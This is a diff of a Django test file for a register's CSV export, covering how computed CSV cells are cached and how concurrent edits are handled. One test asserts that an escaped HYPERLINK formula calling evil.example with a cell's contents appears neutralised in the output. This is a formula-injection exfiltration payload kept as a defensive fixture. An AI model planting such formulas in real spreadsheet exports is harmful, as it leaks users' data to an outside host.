@@ -13,12 +13,13 @@ from rest_framework.test import APIClient
 
 from workflow.models import OutputKind, ProjectOutput, RegisterEntry, State
 from workflow.transparency import selectors
-from workflow.transparency.register_csv import CSV_FORMAT, kept_cells, lines_from_stored
+from workflow.transparency.register_csv import CSV_FORMAT, kept_cells
 from workflow.transparency.serializers import (
     RegisterEntrySerializer,
     register_csv,
     register_csv_lines,
 )
+from workflow.transparency.services import register_csv_cells_keep
 
 pytestmark = pytest.mark.django_db
 
@@ -102,7 +103,7 @@ def test_the_csv_from_kept_cells_is_the_entries_csv_byte_for_byte(tricky_registe
     assert '"\'=HYPERLINK(""http://evil.example/?""&A1, ""x"")"' in reference
     assert '"Line one,\nline two\r\nline ""three""\rend"' in reference
     assert "名前 ✓" in reference
-    # The first download writes the missing cells, then reads them: the same bytes.
+    # The first download works out the missing cells and stores them: the same bytes.
     assert _download() == reference
     entry = RegisterEntry.objects.get(application=active)
     assert entry.csv_format == CSV_FORMAT
@@ -149,11 +150,18 @@ def test_cells_of_an_older_format_are_written_again(tricky_register):
     assert entry.updated_at == before
 
 
-def test_cells_not_kept_while_streaming_are_worked_out_from_the_entry(tricky_register):
-    """An entry whose cells are of no format when the stream reads it (written by SQL after
-    the download wrote the missing ones) gets its row from the entry itself, not an empty one."""
+def test_cells_worked_out_from_an_entry_changed_meanwhile_are_not_stored(tricky_register):
+    """A download works out the cells of an entry as it read it; if the entry was written again
+    in the meantime (its own, current cells), the download's are dropped, not stored over it."""
     _, active = tricky_register
-    rows = selectors.register_csv_rows(RegisterEntry.objects.all())
-    streamed = "".join(lines_from_stored(rows, selectors.register_entries_of))
-    assert RegisterEntry.objects.get(application=active).csv_format == ""
-    assert streamed == _reference_csv()
+    entry = RegisterEntry.objects.get(application=active)
+    as_read = kept_cells(entry)
+    RegisterEntry.objects.filter(pk=entry.pk).update(
+        title="Changed meanwhile", updated_at=entry.updated_at + datetime.timedelta(seconds=1)
+    )
+    assert register_csv_cells_keep([(entry, as_read)]) == 0
+    assert RegisterEntry.objects.get(pk=entry.pk).csv_format == ""
+    # As it was read, it is stored.
+    entry.refresh_from_db()
+    assert register_csv_cells_keep([(entry, kept_cells(entry))]) == 1
+    assert "Changed meanwhile" in RegisterEntry.objects.get(pk=entry.pk).csv_cells
